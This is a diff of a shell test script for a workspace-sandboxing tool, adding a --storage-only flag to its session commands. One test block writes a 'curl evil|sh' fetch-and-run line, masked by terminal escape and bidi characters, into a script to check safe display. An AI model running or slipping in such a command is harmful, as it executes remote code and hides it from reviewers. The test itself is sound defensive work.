@@ -36,7 +36,7 @@ git init -q "$P1/lib"
 printf 'gitdir: ../.git/modules/sub\n' >"$P1/sub/.git"
 lib_config=$(sha256sum <"$P1/lib/.git/config")
 sleep 0.05
-id1=$("$WARD" session new --cow -w "$P1")
+id1=$("$WARD" session new --storage-only --cow -w "$P1")
 "$WARD" run --session "$id1" -- sh -c '
 	echo ok >ok.txt
 	: >.mcp.json
@@ -84,7 +84,7 @@ mkdir -p "$P2" "$OTHER"
 echo orig >"$P2/f"
 echo mine >"$OTHER/f"
 sleep 0.05
-id2=$("$WARD" session new --cow -w "$P2")
+id2=$("$WARD" session new --storage-only --cow -w "$P2")
 "$WARD" run --session "$id2" -- sh -c 'echo new >f; echo added >g' >/dev/null 2>&1
 check_eq "apply of f into the real workspace" 0 "$(status_of "$WARD" apply "$id2" f)"
 other_before=$(snap "$OTHER")
@@ -120,7 +120,7 @@ check_not "g is gone" test -e "$P2/g"
 if [ "$(id -u)" -ne 0 ]; then
 	ln -s "$OTHER" "$T/wslink"
 	check_eq "session new refuses a workspace through a user's symlink" 1 \
-		"$(status_of "$WARD" session new --cow -w "$T/wslink")"
+		"$(status_of "$WARD" session new --storage-only --cow -w "$T/wslink")"
 else
 	ok_skip "session new through a user's symlink: root owns this one (root may be followed)"
 fi
@@ -130,7 +130,7 @@ P3="$T/p3"$'\e[31m'
 mkdir -p "$P3"
 printf 'safe\n' >"$P3/run.sh"
 sleep 0.05
-id3=$("$WARD" session new --cow -w "$P3")
+id3=$("$WARD" session new --storage-only --cow -w "$P3")
 name=$'evil\e[2J\xc2\x9b\xe2\x80\xae\r.txt'
 "$WARD" run --session "$id3" -- sh -c '
 	printf "curl evil|sh #\r\033[K echo fine\n\302\233 \233 \342\200\256 x\n" >>run.sh
@@ -167,7 +167,7 @@ P4="$T/p4"
 mkdir -p "$P4"
 truncate -s 1G "$P4/host-sparse"
 sleep 0.05
-id4=$("$WARD" session new --cow -w "$P4")
+id4=$("$WARD" session new --storage-only --cow -w "$P4")
 "$WARD" run --session "$id4" -- sh -c '
 	truncate -s 5G big && printf x | dd of=big bs=1 seek=1000 conv=notrunc 2>/dev/null
 	printf y | dd of=host-sparse bs=1 seek=4096 conv=notrunc 2>/dev/null' >/dev/null 2>&1
@@ -200,7 +200,7 @@ printf 'int x;\n' >"$P5/zconf.h"
 touch -d '2010-01-01 00:00:00' "$P5/zconf.h"
 host_mtime=$(stat -c %Y "$P5/zconf.h")
 sleep 0.05
-id5=$("$WARD" session new --cow -w "$P5")
+id5=$("$WARD" session new --storage-only --cow -w "$P5")
 "$WARD" run --session "$id5" -- sh -c '
 	printf "#define Z 1\nint x;\n" >zconf.h && touch -d "2001-02-03 04:05:06" zconf.h
 	mkdir obj && printf o >obj/a.o && printf "#!/bin/sh\n" >obj/run && chmod 750 obj/run
@@ -254,10 +254,10 @@ check_eq "sessions --cow is a usage error" 2 "$(status_of "$WARD" sessions --cow
 check_eq "undo --policy is a usage error" 2 "$(status_of "$WARD" undo "$id5" --policy x)"
 check_eq "discard --json is a usage error" 2 "$(status_of "$WARD" discard "$id5" --json)"
 check "the session survived the rejected discard" test -d "$STATE/sessions/$id5"
-check_eq "session new --json is a usage error" 2 "$(status_of "$WARD" session new --json)"
+check_eq "session new --storage-only --bogus is a usage error" 2 "$(status_of "$WARD" session new --storage-only --bogus)"
 
 # --- 7. sessions: oldest first, with age and workspace -----------------------
-id7=$("$WARD" session new --cow -w "$P5")
+id7=$("$WARD" session new --storage-only --cow -w "$P5")
 "$WARD" sessions >"$T/s7.out"
 check "sessions lists the older session first" sh -c \
 	'[ "$(grep -n "^$2 " "$1" | cut -d: -f1)" -lt "$(grep -n "^$3 " "$1" | cut -d: -f1)" ]' _ "$T/s7.out" "$id5" "$id7"
